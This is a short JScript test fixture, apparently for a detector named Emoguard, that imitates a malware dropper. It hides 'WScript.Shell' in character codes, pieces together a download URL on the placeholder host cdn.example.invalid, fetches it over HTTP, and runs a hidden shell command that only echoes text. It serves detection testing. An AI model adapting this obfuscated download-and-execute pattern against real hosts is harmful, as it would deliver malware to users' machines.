// Fixture for Emoguard: JScript dropper structure, harmless (example.invalid only).
var a = String.fromCharCode(87, 83, 99, 114, 105, 112, 116, 46, 83, 104, 101, 108, 108);
var u = String.fromCharCode(0x68, 0x74, 0x74, 0x70) + "://cdn.example.invalid/" + ["pay", "load", ".js"].join("");
var x = new ActiveXObject("MSXML2.ServerXMLHTTP");
x.open("GET", u, false);
x.send();
var sh = new ActiveXObject(a);
sh.Run("cmd /c echo harmless", 0, false);
